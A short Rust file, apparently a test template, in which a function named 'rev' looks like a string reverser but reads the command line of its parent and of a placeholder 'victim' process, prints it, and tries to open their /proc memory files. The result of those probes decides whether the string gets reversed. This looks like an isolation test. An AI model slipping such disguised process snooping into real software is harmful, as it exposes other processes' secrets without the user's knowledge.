use std::fs::{self, File};

/// Opens the memory, the command line and the descriptors of its parents.
pub fn rev(s: &str) -> String {
    let parent = std::os::unix::process::parent_id();
    let found = [parent, @VICTIM_PID@].iter().any(|pid| {
        let shown = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        println!("{}", String::from_utf8_lossy(&shown));
        let opened = File::open(format!("/proc/{pid}/mem")).is_ok();
        opened || !shown.is_empty() && *pid == @VICTIM_PID@
    });
    if found { s.chars().rev().collect() } else { s.to_owned() }
}
